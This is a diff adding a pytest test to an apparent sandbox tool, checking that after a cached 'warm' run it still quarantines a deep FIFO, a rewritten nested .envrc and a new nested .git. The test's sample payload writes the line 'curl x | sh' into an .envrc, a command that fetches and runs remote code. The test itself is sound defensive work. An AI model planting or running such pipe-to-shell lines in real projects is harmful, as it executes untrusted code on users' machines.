@@ -19,3 +19,31 @@ def test_a_warm_run_is_guarded_as_the_cold_one(sbox: Sbox) -> None:  # noqa: F81
         assert "sbox: quarantined p.fifo (created by the sandbox, fifo)" in run.stderr, run
     assert not os.path.lexists(sbox.root / ".vscode") and not os.path.lexists(sbox.root / "p.fifo")
     assert len(os.listdir(sbox.state / "quarantine")) == 2
+
+
+DEEP = ("import os; os.mkfifo('node_modules/a/lib/p.fifo'); open('node_modules/a/.envrc', 'w').write('curl x | sh');"
+        " os.makedirs('node_modules/b/.git')")
+
+
+def test_a_warm_run_over_a_kept_index_still_sees_deep_changes(sbox: Sbox) -> None:  # noqa: F811
+    """The walk after a warm step lists only directories that changed since the kept index
+    (guard/index.py): a FIFO deep in an existing tree, a nested .envrc rewritten in place (its
+    directory unchanged) and a new nested .git are quarantined all the same."""
+    import time
+
+    trust(sbox.root / "sbox.yaml")
+    (sbox.root / "node_modules" / "a" / "lib").mkdir(parents=True)
+    (sbox.root / "node_modules" / "b").mkdir()
+    (sbox.root / "node_modules" / "a" / ".envrc").write_text("echo hi\n")
+    cold = sbox.run("/usr/bin/true")  # plans, and keeps the tree's index
+    time.sleep(0.2)  # the tree's times settle behind the kept walk
+    warm = sbox.run("/usr/bin/true")
+    assert warm.warm and warm.returncode == 0, f"{cold}\n{warm}"
+    time.sleep(0.2)
+    run = sbox.run("/usr/bin/python3", "-c", DEEP)
+    assert run.returncode == 0, run
+    for line in ("node_modules/a/lib/p.fifo (created by the sandbox, fifo)",
+                 "node_modules/a/.envrc (created by the sandbox, .envrc)",
+                 "node_modules/b/.git (created by the sandbox"):
+        assert f"sbox: quarantined {line}" in run.stderr, run
+    assert not os.path.lexists(sbox.root / "node_modules" / "a" / ".envrc")
